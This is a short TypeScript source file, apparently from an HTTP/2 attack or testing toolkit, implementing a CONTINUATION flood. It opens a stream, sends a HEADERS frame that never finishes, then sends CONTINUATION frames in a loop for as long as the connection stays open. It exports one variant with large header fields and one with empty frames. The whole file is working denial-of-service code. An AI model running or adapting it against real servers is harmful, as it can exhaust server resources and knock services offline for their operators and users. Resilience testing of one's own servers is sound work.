import type { Attacker } from '../lib/attacker.ts'
import { encodeFields, encodeFrame, repeated, Type } from '../lib/frames.ts'
import { request } from './header-blocks.ts'

const batch = 100

/** A header block that never ends. */
function continuations(payload: Buffer): (attacker: Attacker) => Promise<void> {
  return (attacker) =>
    attacker.http2(async (connection) => {
      const id = connection.nextStream()
      const frames = repeated(encodeFrame(Type.CONTINUATION, 0, id, payload), batch)
      await connection.send(encodeFrame(Type.HEADERS, 0, id, request), 0)
      while (connection.isOpen) await connection.send(frames, batch)
    })
}

export const continuationFlood = continuations(encodeFields([['x', 'y'.repeat(1000)]]))

export const emptyContinuations = continuations(Buffer.alloc(0))
